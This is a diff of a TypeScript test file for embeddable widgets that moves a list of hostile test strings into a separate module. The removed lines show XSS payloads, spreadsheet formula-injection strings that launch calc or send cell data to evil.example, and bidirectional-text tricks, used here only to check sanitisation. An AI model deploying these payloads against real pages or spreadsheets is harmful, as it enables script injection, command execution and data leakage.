@@ -23,6 +23,7 @@ import { embedSnippet } from '../../../demo/snippet.ts';
 import { waitForState } from '../../helpers/dom.ts';
 import { brokenText, frame, parseCsv, sized, sleep, watchErrors } from './checks.ts';
 import { cleaned, csvSafe } from './gen.ts';
+import { HOSTILE } from './hostile-strings.ts';
 
 declare global {
   interface Window {
@@ -30,26 +31,6 @@ declare global {
   }
 }
 
-/** Each payload, if it ever ran, would push its name into `window.__pwned`. */
-const HOSTILE = [
-  `<img src=x onerror="window.__pwned.push('img')">`,
-  `</script><script>window.__pwned.push('script')</script>`,
-  `javascript:window.__pwned.push('js')`,
-  `"><svg onload="window.__pwned.push('svg')"><a href="javascript:window.__pwned.push('a')">x</a>`,
-  `<iframe srcdoc="<script>parent.__pwned.push('iframe')</script>"></iframe>`,
-  `<style>*{display:none!important}</style><b>gras</b>`,
-  `\${window.__pwned.push('template')} {{constructor.constructor('window.__pwned.push(1)')()}}`,
-  `]]><!-- --><![CDATA[ x ]]>&amp;&lt;b&gt;&#60;i&#62;`,
-  `=HYPERLINK("https://evil.example/?"&A1;"clic")`,
-  `+1+cmd|' /C calc'!A0`,
-  `-2+3+cmd|' /C calc'!A0`,
-  `@SUM(1+1)*cmd|' /C calc'!A0`,
-  `\t=1+1`,
-  `Machines, =cmd|' /C calc'!A0; "quoted"`,
-  `Vins,=2+5+cmd|' /C calc'!A0`,
-  `Fr\u202eecnarF\u202c \u2066isolé\u2069 \u200fRLM \u200eLRM \u202dLRO\u202c \u061cALM`,
-  `abc\u202e<img src=x onerror="window.__pwned.push('rlo')">`,
-];
 /** Characters that reorder text around them: never shown. */
 const BIDI = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
 /** Elements the widgets' own templates make: anything else came from content. */
